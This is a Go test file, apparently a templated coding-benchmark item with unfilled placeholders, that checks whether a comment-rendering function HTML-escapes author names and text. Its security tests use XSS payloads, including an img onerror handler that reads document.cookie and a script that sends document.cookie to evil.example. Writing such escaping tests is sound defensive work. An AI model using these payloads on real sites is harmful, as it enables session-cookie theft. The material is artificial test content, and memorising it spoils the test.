package solution

import (
	"html"
	"reflect"
	"regexp"
	"testing"
)

var (
	wantTags = []string{`<div class="$[cls]">`, "<$[tag]>", "</$[tag]>", "<p>", "</p>", "</div>"}
	shape    = regexp.MustCompile(`(?s)^<div class="$[cls]"><$[tag]>(.*?)</$[tag]><p>(.*?)</p></div>$`)
	tagRe    = regexp.MustCompile(`<[^>]*>`)
)

func render(author, text string) string {
	return $[fn|pascal]($[sig.call])
}

func parts(t *testing.T, out string) (tags []string, author, text string) {
	m := shape.FindStringSubmatch(out)
	if m == nil {
		t.Fatalf("unexpected markup: %q", out)
	}
	return tagRe.FindAllString(out, -1), html.UnescapeString(m[1]), html.UnescapeString(m[2])
}

func expectTags(t *testing.T, tags []string, out string) {
	if !reflect.DeepEqual(tags, wantTags) {
		t.Fatalf("the values added markup: %q", out)
	}
}

func TestFunc_PlainComment(t *testing.T) {
	want := `<div class="$[cls]"><$[tag]>alice</$[tag]><p>Nice post!</p></div>`
	if got := render("alice", "Nice post!"); got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
}

func TestFunc_AnotherComment(t *testing.T) {
	want := `<div class="$[cls]"><$[tag]>bob42</$[tag]><p>I disagree with point 3</p></div>`
	if got := render("bob42", "I disagree with point 3"); got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
}

func TestFunc_SpecialCharactersInTextAreShown(t *testing.T) {
	out := render("carol", "5 > 3 & 2 < 4")
	tags, author, text := parts(t, out)
	expectTags(t, tags, out)
	if author != "carol" || text != "5 > 3 & 2 < 4" {
		t.Fatalf("shown as (%q, %q)", author, text)
	}
}

func TestSec_ScriptInAuthor(t *testing.T) {
	out := render("<script>alert(1)</script>", "hi")
	tags, author, _ := parts(t, out)
	expectTags(t, tags, out)
	if author != "<script>alert(1)</script>" {
		t.Fatalf("author shown as %q", author)
	}
}

func TestSec_EventHandlerInAuthor(t *testing.T) {
	out := render(`"><img src=x onerror=alert(document.cookie)>`, "hi")
	tags, _, _ := parts(t, out)
	expectTags(t, tags, out)
}

func TestSec_ScriptInText(t *testing.T) {
	attack := "</p><script>fetch('//evil.example/'+document.cookie)</script>"
	out := render("dave", attack)
	tags, _, text := parts(t, out)
	expectTags(t, tags, out)
	if text != attack {
		t.Fatalf("text shown as %q", text)
	}
}
